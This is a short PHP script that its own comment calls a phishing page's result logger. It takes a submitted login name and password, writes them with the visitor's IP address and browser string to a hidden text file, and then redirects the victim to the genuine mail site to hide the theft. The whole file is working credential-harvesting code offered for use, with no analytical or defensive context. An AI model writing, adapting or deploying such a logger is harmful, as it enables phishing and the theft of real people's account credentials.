<?php
// A phishing page's result logger of our own writing: the posted login is appended to a text file
// with the visitor's address and browser, then the visitor is sent to the real site.
$user = isset($_POST['u']) ? $_POST['u'] : '';
$secret = isset($_POST['k']) ? $_POST['k'] : '';
$line = date('c') . " | " . $_SERVER['REMOTE_ADDR'] . " | Login: " . $user . " | Pass: " . $secret
    . " | " . $_SERVER['HTTP_USER_AGENT'] . "\n";
$fh = fopen(__DIR__ . '/.rz.txt', 'a');
fwrite($fh, $line);
fclose($fh);
header('Location: https://mail.example.org/');
exit;
